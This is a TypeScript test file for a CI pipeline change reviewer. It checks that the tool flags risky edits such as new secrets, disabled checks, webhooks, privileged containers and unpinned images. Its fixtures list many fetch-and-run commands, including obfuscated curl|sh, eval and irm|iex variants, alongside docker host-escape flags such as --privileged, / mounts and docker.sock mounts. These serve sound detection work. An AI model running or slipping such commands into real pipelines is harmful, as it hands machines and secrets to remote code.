import { expect, it } from 'vitest';
import { executors, images } from '../../src/review/risks/place-rules.ts';
import { riskCodes } from '../../src/review/risks/risk-codes.ts';
import { settingsOfTask } from '../../src/review/settings.ts';
import type { TracedTask } from '../../src/review/trace-changes.ts';
import { makePipeline, makeTask } from '../support/pipeline.ts';
import { reviewed, risksOf } from '../support/reviewed.ts';

const at = (line: number) => `(.runnable/p.yaml:${line})`;

/** What a task or file has before and after, and the risks of that. */
const cases: readonly [string, { before: string; after: string; changed?: string }, readonly string[]][] = [
  [
    'a secret',
    {
      before: 'tasks:\n  t: { shell: a }\n',
      after: 'tasks:\n  t:\n    shell: a\n    secrets: [KEY]\n',
    },
    [`high new-secret: \`p/t\` now reads the secret \`KEY\` ${at(4)}`],
  ],
  [
    'the script of a task with secrets',
    {
      before: 'tasks:\n  t: { shell: a, secrets: [KEY] }\n',
      after: 'tasks:\n  t: { shell: b, secrets: [KEY] }\n',
    },
    [`high code-with-secrets: \`command\` changed of \`p/t\`, which holds \`KEY\` ${at(2)}`],
  ],
  [
    'the code of a task with secrets',
    {
      before: 'tasks:\n  t: { python: x.py, secrets: [KEY] }\n',
      after: 'tasks:\n  t: { python: x.py, secrets: [KEY] }\n',
      changed: 'x.py',
    },
    [`high code-with-secrets: \`x.py\` changed, the code of \`p/t\`, which holds \`KEY\` ${at(2)}`],
  ],
  [
    'variables that decide what runs in a task with secrets',
    {
      before: 'tasks:\n  t: { shell: a, secrets: [KEY], env: { PATH: "/a", A: "1" } }\n',
      after:
        'tasks:\n  t: { shell: a, secrets: [KEY], env: { PATH: "/b", BASH_ENV: x, LD_PRELOAD: y, A: "2" } }\n',
    },
    [
      `high code-with-secrets: \`PATH\`, \`BASH_ENV\`, \`LD_PRELOAD\`, which decide what runs, changed of \`p/t\`, which holds \`KEY\` ${at(2)}`,
      `low env-value: \`p/t\` has another \`PATH\`, \`A\`, \`BASH_ENV\` and 1 more ${at(2)}`,
    ],
  ],
  [
    'a variable that decides what runs in all tasks, of which one in a branch has secrets',
    {
      before: 'tasks:\n  t: { pipeline: { tasks: { u: { shell: a, secrets: [KEY] } } } }\n',
      after:
        'env: { NODE_OPTIONS: "-r x" }\ntasks:\n  t: { pipeline: { tasks: { u: { shell: a, secrets: [KEY] } } } }\n',
    },
    [
      `high code-with-secrets: \`NODE_OPTIONS\`, which decides what runs, changed of all tasks of \`p\`, of which \`u\` holds secrets ${at(1)}`,
      `low env-value: all tasks of \`p\` have another \`NODE_OPTIONS\` ${at(1)}`,
    ],
  ],
  [
    'a variable that decides what runs where there are no secrets',
    {
      before: 'tasks:\n  t: { shell: a }\n',
      after: 'tasks:\n  t: { shell: a, env: { PYTHONPATH: x } }\n',
    },
    [`low env-value: \`p/t\` has another \`PYTHONPATH\` ${at(2)}`],
  ],
  [
    'a check that does nothing any more',
    {
      before: 'tasks:\n  unit-test: { shell: npm test }\n',
      after: 'tasks:\n  unit-test:\n    shell: |\n      set -e\n      # npm test\n      echo ok\n',
    },
    [`high weakened-check: the check \`p/unit-test\` does nothing any more ${at(3)}`],
  ],
  [
    'a check that only pretends',
    {
      before: 'tasks:\n  unit-test: { shell: npm test }\n',
      after: 'tasks:\n  unit-test: { stub: {} }\n',
    },
    [`high weakened-check: the check \`p/unit-test\` only pretends to run now ${at(2)}`],
  ],
  [
    'a check whose failure is swallowed',
    {
      before: 'tasks:\n  lint: { shell: "x || true; npm test" }\n',
      after: 'tasks:\n  lint:\n    shell: |\n      x || true; npm test\n      npm run lint || true\n',
    },
    [
      `high weakened-check: the check \`p/lint\` now passes where this fails: \`npm run lint || true\` ${at(3)}`,
    ],
  ],
  [
    'a check that still does something',
    {
      before: 'tasks:\n  lint: { shell: npm run lint }\n',
      after: 'tasks:\n  lint: { shell: "echo $(npm run lint)" }\n',
    },
    [],
  ],
  [
    'a check that may fail',
    {
      before: 'tasks:\n  unit-test: { shell: a }\n',
      after: 'tasks:\n  unit-test: { shell: a, allow_failure: true }\n',
    },
    [`high weakened-check: \`allow_failure\` of the check \`p/unit-test\` changed ${at(2)}`],
  ],
  [
    'a task that only guards one with secrets',
    {
      before: 'tasks:\n  wall: { shell: a }\n  t: { shell: b, needs: [wall], secrets: [KEY] }\n',
      after:
        'tasks:\n  wall: { shell: a, enabled: false }\n  t: { shell: b, needs: [wall], secrets: [KEY] }\n',
    },
    [`high weakened-check: \`enabled\` of the check \`p/wall\` changed ${at(2)}`],
  ],
  [
    'a branch with a check in it that does not run',
    {
      before: 'tasks:\n  all:\n    pipeline: { tasks: { test: { shell: a } } }\n',
      after: 'tasks:\n  all:\n    pipeline: { tasks: { test: { shell: a } } }\n    enabled: false\n',
    },
    [`high weakened-check: \`enabled\` of the branch with checks \`p/all\` changed ${at(4)}`],
  ],
  [
    'the failure of a check that another task deals with',
    {
      before: 'tasks:\n  test: { shell: a }\n',
      after: 'tasks:\n  test: { shell: a }\n  calm: { shell: b, needs: [test], handles: [test] }\n',
    },
    [`high weakened-check: \`p/calm\` now handles the failure of the check \`p/test\` ${at(3)}`],
  ],
  [
    'a check that is gone, and that was needed',
    {
      before: 'tasks:\n  test: { shell: a }\n  t: { shell: b, needs: [test] }\n',
      after: 'tasks:\n  t: { shell: b }\n',
    },
    [
      `high removed-check: the check \`p/test\` is gone ${at(2)}`,
      `medium consumed-task-removed: \`p/test\` is gone, and \`p/t\` needed it ${at(2)}`,
    ],
  ],
  [
    'a link into the live checkout, and what is written there',
    {
      before: 'tasks:\n  t: { shell: a }\n',
      after:
        'workspace:\n  link: [{ path: data, mode: read-write }]\ntasks:\n  t:\n    shell: a\n    outputs: [data/x]\n',
    },
    [
      `high workspace-link: tasks of \`p\` now write to \`data\` of the live checkout ${at(2)}`,
      `medium output-outside: \`p/t\` writes \`data/x\` into the live checkout ${at(6)}`,
    ],
  ],
  [
    'a webhook',
    {
      before: 'notify: [{ on: [failure], webhook: "https://a.test/1" }]\ntasks:\n  t: { shell: a }\n',
      after: 'notify: [{ on: [failure], webhook: "https://b.test/key" }]\ntasks:\n  t: { shell: a }\n',
    },
    [`high webhook: pipeline \`p\` tells another address at \`b.test\` ${at(1)}`],
  ],
  [
    'a script from the network',
    {
      before: 'tasks:\n  t: { shell: a }\n',
      after: 'tasks:\n  t:\n    shell: |\n      curl -s \\\n        https://x.test/i.sh | sudo bash -s\n',
    },
    [
      `high piped-download: \`p/t\` runs what it loads from the network: \`curl -s https://x.test/i.sh | sudo bash\` ${at(3)}`,
      `low network-host: \`p/t\` now names the host \`x.test\` ${at(3)}`,
    ],
  ],
  [
    'rights over the machine',
    {
      before: 'tasks:\n  t: { shell: docker run x }\n',
      after: 'tasks:\n  t: { shell: docker run --privileged x }\n',
    },
    [`high privileged-command: \`p/t\` asks for rights over the machine: \`--privileged\` ${at(2)}`],
  ],
  [
    'a schedule',
    {
      before: 'on: [{ schedule: "0 6 * * 1" }]\ntasks:\n  t: { shell: a }\n',
      after: 'on: [{ schedule: "0 7 * * 1" }]\ntasks:\n  t: { shell: a }\n',
    },
    [
      `medium schedule: pipeline \`p\` is now started by \`schedule: 0 7 * * 1\`, and is no more started by \`schedule: 0 6 * * 1\` ${at(1)}`,
    ],
  ],
  [
    'packages',
    {
      before: 'tasks:\n  t: { python: x.py, environment: requirements.txt }\n',
      after: 'tasks:\n  t: { python: x.py, environment: requirements.txt }\n',
      changed: 'requirements.txt',
    },
    [`medium environment-file: the packages of \`p/t\` differ: \`requirements.txt\` changed ${at(2)}`],
  ],
  [
    'a departure from the standard model',
    {
      before: 'tasks:\n  t: { shell: eval "$X" }\n',
      after:
        'deviations:\n  - { rule: eval-in-script, reason: trusted }\ntasks:\n  t: { shell: eval "$X" }\n',
    },
    [`medium deviation: \`p\` departs from \`eval-in-script\`: \`trusted\` ${at(2)}`],
  ],
  [
    'defaults of params',
    {
      before: 'params: { a: 1 }\ntasks:\n  t: { shell: a, params: { b: 1 } }\n',
      after: 'params: { a: 2 }\ntasks:\n  t: { shell: a, params: { b: 2 } }\n',
    },
    [
      `medium default-param: the default of param \`a\` of \`p\` changed ${at(1)}`,
      `medium default-param: the default of param \`b\` of \`p/t\` changed ${at(3)}`,
    ],
  ],
  [
    'limits',
    {
      before: 'tasks:\n  t: { shell: a, timeout: 5m, retry: 1 }\n',
      after: 'tasks:\n  t: { shell: a, timeout: 10m, retry: 2 }\n',
    },
    [`medium limits: \`timeout\` of \`p/t\` is at least twice what it was ${at(2)}`],
  ],
  [
    'variables',
    {
      before: 'tasks:\n  t: { shell: a, env: { A: "1" } }\n',
      after: 'tasks:\n  t: { shell: a, env: { A: "2" }, pass_env: [HOME] }\n',
    },
    [
      `medium passed-variable: \`p/t\` now sees \`HOME\` of the runner ${at(2)}`,
      `low env-value: \`p/t\` has another \`A\` ${at(2)}`,
    ],
  ],
];

it.each(cases)('tells of %s', async (_, { before, after, changed }, risks) => {
  const review = await reviewed(
    { p: before },
    { p: after },
    changed === undefined ? {} : { changedPaths: [changed] },
  );
  expect(review.diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
  expect(risksOf(review)).toEqual(risks);
});

/** The messages of one risk, for a task or file with these scripts before and after. */
async function toldOf(code: string, before: string, after: string): Promise<string[]> {
  const side = (script: string) => ({ p: `tasks:\n  t:\n    shell: ${JSON.stringify(script)}\n` });
  const { risks, diagnostics } = await reviewed(side(before), side(after));
  expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
  return risks.filter((risk) => risk.code === code).map(({ message }) => message);
}

const known = 'curl -fsS https://get.ok.test/x.sh | sh';
const bad = 'curl -fsS https://get.ok.test/evil.sh | sh';
const loads = '`p/t` runs what it loads from the network:';

it.each<readonly [what: string, after: string, messages: readonly string[]]>([
  ['another one after the one that was there', `${known}\n${bad}`, [`${loads} \`${bad}\``]],
  ['another one before it', `${bad}\n${known}`, [`${loads} \`${bad}\``]],
  ['the same one twice', `${known}\n${known}`, [`${loads} \`${known}\``]],
  ['one that takes its place', bad, [`${loads} \`${bad}\``]],
  [
    'more than are told',
    [1, 2, 3, 4, 5].map((digit) => `curl a.test/${digit} | sh`).join('\n'),
    [`${loads} \`curl a.test/1 | sh\`, \`curl a.test/2 | sh\`, \`curl a.test/3 | sh\` and 2 more`],
  ],
  ['none that only moved', `set -e\nif true; then\n  ${known}\nfi\nmake`, []],
  ['none that is written otherwise', 'curl   -fsS \\\n  https://get.ok.test/x.sh |\n  sh', []],
])('tells of scripts from the network: %s', async (_, after, messages) => {
  expect(await toldOf('piped-download', known, after)).toEqual(messages);
});

it('tells of rights over the machine in each new line', async () => {
  const base = 'docker run --privileged good';
  const says = '`p/t` asks for rights over the machine: `--privileged`';
  expect(await toldOf('privileged-command', base, `${base}\ndocker run --privileged evil`)).toEqual([says]);
  expect(await toldOf('privileged-command', base, 'docker run --privileged evil')).toEqual([says]);
  expect(await toldOf('privileged-command', base, `make\n${base}\nmake`)).toEqual([]);
});

it.each([
  'cu\\\nrl a.test | s\\\nh',
  'c\'ur\'l a.test | "sh"',
  'c\\url a.test | \\bash',
  'curl a.test |\n  # a comment\n  bash',
  'curl "a.test?x=1&y=2;z" | sh',
  'curl -v a.test 2>&1 | sh',
  'curl a.test |& sh',
  `curl -H "${'x'.repeat(3000)}" a.test | sh`,
  'curl a.test | gunzip | tee log | sh',
  'curl a.test | sudo -E bash -',
  'curl a.test | sudo -u root A=1 /usr/bin/env bash',
  'curl a.test | /bin/sh -s -- -y',
  'curl a.test | timeout 10 python3.12',
  'curl a.test | $SHELL',
  '(echo; curl a.test) | sh',
  '{ curl a.test; echo; } | sh',
  'x() { curl a.test | sh; }',
  'bash -c "curl a.test | sh"',
  `bash -c "sh -c 'curl a.test | sh'"`,
  "echo don't; curl 'a.test' | sh",
  'bash -euo pipefail -c "$(curl a.test)"',
  'sudo bash <(sudo curl a.test)',
  'bash < <(curl a.test)',
  'sh <<< "$(wget -O- a.test)"',
  'if true; then . <(curl a.test); fi',
  'eval "`curl a.test`"',
  'python3 -c "$(curl a.test)"',
  'irm a.test | iex',
])('knows a script from the network in %j', async (script) => {
  expect(await toldOf('piped-download', 'a', script)).toHaveLength(1);
});

it.each([
  'curl a.test | jq .x > sh',
  "curl a.test | grep -E 'bash|sh'",
  "curl a.test | sed 's|bash|zsh|'",
  'curl -o x a.test; cat list | sh',
  'curl -o x a.test || sh usual.sh',
  'python3 x.py --data "$(curl a.test)"',
  'git clone a.test && bash x.sh',
])('knows none in %j', async (script) => {
  expect(await toldOf('piped-download', 'a', script)).toEqual([]);
});

it.each([
  'docker run --priv""ileged x',
  'docker run --net  host x',
  'docker run --network "host" x',
  'docker run -v/:/host x',
  'docker run -v /etc/:/host x',
  'docker run --mount type=bind,source=/,target=/x x',
  'docker run --security-opt seccomp=unconfined x',
  'docker run -v /run/docker.sock:/run/docker.sock x',
])('knows rights over the machine in %j', async (script) => {
  expect(await toldOf('privileged-command', 'a', script)).toHaveLength(1);
});

it.each([
  ['env of the file', 'env: { X: "curl a.test | sh" }\ntasks:\n  t: { shell: a }\n'],
  ['a param of the file', 'params: { x: "curl a.test | sh" }\ntasks:\n  t: { shell: a }\n'],
  ['env of a task', 'tasks:\n  t: { shell: a, env: { X: "curl a.test | sh" } }\n'],
  ['env of all tasks', 'defaults: { env: { X: "curl a.test | sh" } }\ntasks:\n  t: { shell: a }\n'],
  ['a param of a task', 'tasks:\n  t: { shell: a, params: { x: "curl a.test | sh" } }\n'],
  ['a matrix', 'tasks:\n  t: { shell: a, matrix: { x: [b, "curl a.test | sh"] } }\n'],
  ['arguments', 'tasks:\n  t: { shell: { file: a.sh, args: ["curl a.test | sh"] } }\n'],
  ['the shell', 'tasks:\n  t: { shell: { script: a, shell: [bash, -c, "curl a.test | sh"] } }\n'],
  ['a branch', 'tasks:\n  t:\n    pipeline: { tasks: { u: { shell: "curl a.test | sh" } } }\n'],
  ['an anchor', 'env: &e { X: "curl a.test | sh" }\ntasks:\n  t: { shell: a, env: *e }\n'],
])('knows a script from the network in %s', async (_, after) => {
  const { risks, diagnostics } = await reviewed({ p: 'tasks:\n  t: { shell: a }\n' }, { p: after });
  expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
  expect(new Set(risks.map(({ code }) => code).filter((code) => code === 'piped-download')).size).toBe(1);
});

it('knows rights over the machine in the words of a shell, and a script in what a call is given', async () => {
  const words = '[docker, run, --net, host, -v, "/:/x", box, sh]';
  const shell = (more: string) => ({ p: `tasks:\n  t: { shell: { script: a${more} } }\n` });
  const { risks } = await reviewed(shell(''), shell(`, shell: ${words}`));
  expect(risks.map(({ message }) => message)).toEqual([
    '`p/t` asks for rights over the machine: `--net host`, `-v /:`',
  ]);
  const called = 'params: { x: "" }\ntasks:\n  t: { shell: a }\n';
  const call = (x: string) => ({
    q: called,
    p: `tasks:\n  t: { pipeline: { name: q, params: { x: ${JSON.stringify(x)} } } }\n`,
  });
  const found = await reviewed(call('a'), call('curl a.test | sh'));
  expect(found.risks.map(({ message }) => message)).toEqual([`${loads} \`curl a.test | sh\``]);
});

it('tells of no risk that was there before', async () => {
  for (const [, { after }] of cases) {
    expect(risksOf(await reviewed({ p: after }, { p: after }))).toEqual([]);
  }
});

it('tells that the configuration differs, and goes by the policy of the base', async () => {
  const text = (env: string) => `tasks:\n  t: { shell: a, env: { A: "${env}" } }\n`;
  const changedPaths = ['runnable.config.yaml'];
  const [plain, strict, calm] = await Promise.all([
    reviewed({ p: text('1') }, { p: text('2') }, { changedPaths, project: 'ml' }),
    reviewed(
      { p: text('1') },
      { p: text('2') },
      { policy: { failOnRisk: 'none', risks: { 'env-value': 'high' } } },
    ),
    reviewed(
      { p: text('1') },
      { p: text('2') },
      { policy: { failOnRisk: 'none', risks: { 'env-value': 'off' } } },
    ),
  ]);
  expect(plain.risks.map(({ severity, code, file }) => [severity, code, file])).toEqual([
    ['high', 'configuration', 'ml/runnable.config.yaml'],
    ['low', 'env-value', '.runnable/p.yaml'],
  ]);
  expect(strict.risks.map(({ severity }) => severity)).toEqual(['high']);
  expect(calm.risks).toEqual([]);
});

/** A task with another value of one setting. */
function tracedWith(
  field: 'image' | 'executor',
  before: string | undefined,
  after: string | undefined,
): TracedTask {
  const pipeline = makePipeline();
  const placed = (value: string | undefined) => {
    const task = { ...makeTask('t'), ...(value === undefined ? {} : { [field]: value }) };
    return { id: 'p/t', within: 'p', pipeline, task, settings: () => settingsOfTask(task) };
  };
  const fields = before === after ? [] : [{ field, before: before ?? null, after: after ?? null }];
  const pair = { before: placed(before), after: placed(after), fields, inside: [] };
  return {
    ...{ pair, change: 'modified', fields, cosmetic: false, reused: null },
    ...{ why: '', input: null, runs: true, inside: [] },
  };
}

const context = {
  executorType: (name: string | undefined) => ({ box: 'container', local: 'local' })[name ?? 'local'] ?? null,
  kinds: new Map(),
  find: () => undefined,
  neededBy: () => [],
};

it.each([
  ['python:3.12', 'python:3.13', ['image-without-digest']],
  ['python:3.12', `python@sha256:${'a'.repeat(64)}`, []],
  ['python:3.12', 'python', ['image']],
  ['python:3.12', 'python:latest', ['image']],
  ['python:3.12', 'evil.test/python:3.12', ['image']],
  ['evil.test:5000/a/b:1', 'evil.test:5000/a/b:1', []],
])('judges the image %s → %s', (before, after, codes) => {
  const found = images.task?.(tracedWith('image', before, after), context);
  expect(found?.map(({ code }) => code)).toEqual(codes);
});

it('judges the images of services as those of tasks, and only those that changed', () => {
  const traced = tracedWith('image', undefined, undefined);
  const services = (images: Readonly<Record<string, string>>) =>
    Object.entries(images).map(([name, image]) => ({
      ...{ name, image, env: {}, secrets: [], ports: [], health: { intervalMs: 1000, timeoutMs: 60_000 } },
    }));
  const withServices = (images: Readonly<Record<string, string>>) => {
    const task = makeTask('t', [], { services: services(images) });
    return { id: 'p/t', within: 'p', pipeline: makePipeline(), task, settings: () => settingsOfTask(task) };
  };
  const fields = [{ field: 'services', before: '', after: '' }];
  const before = withServices({ same: 'redis', db: 'postgres:16' });
  const after = withServices({ same: 'redis', db: 'postgres:17', fresh: 'minio', pinned: 'a:1' });
  const pair = { ...traced.pair, before, after, fields };
  expect(
    images.task?.({ ...traced, pair, fields }, context)?.map(({ code, message }) => `${code} ${message}`),
  ).toEqual([
    'image-without-digest the image of service `db` of `p/t` is another one, without a digest: `postgres:17`',
    'image the image of service `fresh` of `p/t` has no tag: `minio`',
  ]);
});

it.each([
  ['box', undefined, ['executor']],
  ['box', 'local', ['executor']],
  ['box', 'unheard-of', ['executor']],
  ['local', 'box', []],
  [undefined, 'local', []],
])('judges the executor %s → %s', (before, after, codes) => {
  const found = executors.task?.(tracedWith('executor', before, after), context);
  expect(found?.map(({ code }) => code)).toEqual(codes);
});

it('has a case for each code', () => {
  const told = new Set(cases.flatMap(([, , risks]) => risks.map((risk) => /^\w+ ([\w-]+):/.exec(risk)?.[1])));
  const others = ['configuration', 'image', 'image-without-digest', 'executor'];
  expect(Object.keys(riskCodes).filter((code) => !told.has(code) && !others.includes(code))).toEqual([]);
});

it.each([
  'curl | sh ',
  'curl | ',
  'curl ( { ',
  '" \\" ',
  "curl ' | ",
  'bash -c < ',
  'bash <( a a a ',
  '--mount=source=',
  '|#\n',
])('reads %j many times over in linear time', async (piece) => {
  const script = (end: string) => piece.repeat(300_000 / piece.length) + end;
  const side = (end: string) => ({ p: `tasks:\n  t:\n    shell: ${JSON.stringify(script(end))}\n` });
  const started = performance.now();
  expect((await reviewed(side('a'), side('b'))).tasks).toHaveLength(1);
  expect(performance.now() - started).toBeLessThan(5_000);
});

it('reads long lines in linear time', async () => {
  const text = (end: string) =>
    `tasks:\n  t:\n    shell: "${'curl sh -c "$(bash <( '.replaceAll('"', "'").repeat(15_000)}${end}"\n`;
  const started = performance.now();
  const review = await reviewed({ p: text('a') }, { p: text('b') });
  expect(review.counts.modified).toBe(1);
  expect(performance.now() - started).toBeLessThan(5_000);
});
